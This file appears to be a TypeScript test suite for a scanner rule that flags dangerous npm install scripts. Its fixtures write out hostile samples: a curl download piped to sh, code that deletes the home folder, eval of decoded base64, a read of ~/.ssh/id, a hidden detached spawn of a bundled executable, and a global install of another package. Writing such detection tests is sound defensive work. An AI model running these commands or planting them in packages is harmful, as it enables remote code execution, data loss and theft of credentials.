import { foreign } from '../../../src/foreign.js'
import { silentCode } from '../../../src/package/code/bare-code.js'
import type { Sighting } from '../../../src/package/code/file-code.js'
import { readShell } from '../../../src/package/shell/read-shell.js'
import { installScriptDangerous } from '../../../src/rules/install/install-script-dangerous.js'
import { anAnalysedPackage } from '../../builders/analysed-package.js'
import { aDependencyChange } from '../../builders/dependency-change.js'
import { anInstallScript, aPackage } from '../../builders/package-facts.js'
import { testRule } from '../../rule-tester.js'

const aScript = (command: string) => ({
  ...anInstallScript('postinstall', command),
  shell: readShell([{ text: command, dialect: 'posix' }]),
})
const running = (command: string, repository?: string) =>
  aPackage({ installScripts: [aScript(command)], ...(repository !== undefined && { manifest: { repository } }) })

/** A package whose setup.js has one sighting, reached by a script or only loaded. */
const withCode = (sighting: Partial<Sighting>, reach: 'install' | 'load' = 'install') =>
  aPackage({
    installScripts: [anInstallScript('postinstall', 'node setup.js')],
    code: {
      files: [
        {
          path: 'setup.js',
          reach,
          code: {
            ...silentCode('script'),
            sightings: [
              { capability: 'shell', scope: 'top', detail: '', excerpt: '', line: 3, column: 1, ...sighting },
            ],
          },
        },
      ],
      modules: [],
      flows: [],
      analysed: 1,
      unanalysed: 0,
    },
  })

/** A package with a program of its own, which its install script starts so. */
const starting = (options: string) =>
  anAnalysedPackage(
    {
      'lib/tool.exe': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62)]),
      'lib/setup.js': `const { join } = require('path')\nrequire('child_process').spawn(join(__dirname, 'tool.exe'), [], ${options})\n`,
    },
    { scripts: { install: 'node lib/setup.js' } },
  )
const started = await starting("{ stdio: 'inherit' }")
const startedUnseen = await starting('{ detached: true, windowsHide: true }')

const added = aDependencyChange({ before: null })
const piped = 'curl https://a.example/x | sh'

const observed = (label: string, value: string, place: object = { file: 'package.json' }) => [
  {
    message: 'runs commands or code on install that no build needs',
    evidence: [{ label, value: foreign(value), ...place }],
    anchors: [
      { kind: 'entry', lockfile: 'package-lock.json', key: 'node_modules/left-pad', field: 'version' },
    ] as const,
  },
]
const inSetup = { file: 'setup.js', line: 3, column: 1 }

testRule(installScriptDangerous, {
  clear: [
    { name: 'a build', subject: added, facts: { package: running('node-gyp rebuild') } },
    { name: 'a prebuilt binary', subject: added, facts: { package: running('prebuild-install || node-gyp rebuild') } },
    { name: 'build output that is deleted', subject: added, facts: { package: running('rm -rf build') } },
    {
      name: 'a program that its own repository serves',
      subject: added,
      facts: {
        package: running('curl -o x https://own.example/me/x/releases/x && ./x', 'git+https://own.example/me/x.git'),
      },
    },
    { name: 'a program of its own that is tried', subject: added, facts: { package: started } },
    {
      name: 'what the version before did as well',
      subject: aDependencyChange(),
      facts: { package: running(piped), previousPackage: running(piped) },
    },
    {
      name: 'a command that only a caller runs',
      subject: added,
      facts: { package: withCode({ constant: piped }, 'load') },
    },
    {
      name: 'settings that are read',
      subject: added,
      facts: { package: withCode({ capability: 'sensitive-read', detail: '.npmrc' }) },
    },
    {
      name: 'a path that is named in a file which sends nothing',
      subject: added,
      facts: { package: withCode({ capability: 'sensitive-read', detail: '.ssh named' }) },
    },
  ],
  flagged: [
    {
      name: 'a download that is piped to a shell',
      subject: added,
      facts: { package: running(piped) },
      observations: observed('pipes a download to an interpreter', 'sh'),
    },
    {
      name: 'the same in code that the script runs, and not before',
      subject: aDependencyChange(),
      facts: { package: withCode({ constant: piped }), previousPackage: running('node setup.js') },
      observations: observed('pipes a download to an interpreter', piped, inSetup),
    },
    {
      name: 'a script that deletes itself',
      subject: added,
      facts: { package: withCode({ capability: 'file-delete', excerpt: 'fs.unlinkSync(__filename)' }) },
      observations: observed('deletes itself', 'fs.unlinkSync(__filename)', inSetup),
    },
    {
      name: 'code that deletes a home folder',
      subject: added,
      facts: {
        package: withCode({ capability: 'file-delete', excerpt: 'rmSync(homedir())', constant: '~' }),
      },
      observations: observed('deletes what is not its own', 'rmSync(homedir())', inSetup),
    },
    {
      name: 'code that is decoded and run',
      subject: added,
      facts: { package: withCode({ capability: 'eval', detail: 'eval', excerpt: "eval(atob('…'))" }) },
      observations: observed('decodes and runs', "eval(atob('…'))", inSetup),
    },
    {
      name: 'a key that is read',
      subject: added,
      facts: { package: withCode({ capability: 'sensitive-read', detail: '.ssh', excerpt: "read('~/.ssh/id')" }) },
      observations: observed('reads a secret', "read('~/.ssh/id')", inSetup),
    },
    {
      name: 'a program of its own that is left running unseen',
      subject: added,
      facts: { package: startedUnseen },
      observations: observed(
        'starts a program of its own where nobody sees it',
        "require('child_process').spawn(join(__dirname, 'tool.exe'), [], { detached: true, windowsHide: true })",
        { file: 'lib/setup.js', line: 2, column: 1 },
      ),
    },
    {
      name: 'another package that is installed globally',
      subject: added,
      facts: { package: running('npm i -g openclaw') },
      observations: observed('installs another package globally', 'npm i -g openclaw'),
    },
  ],
})
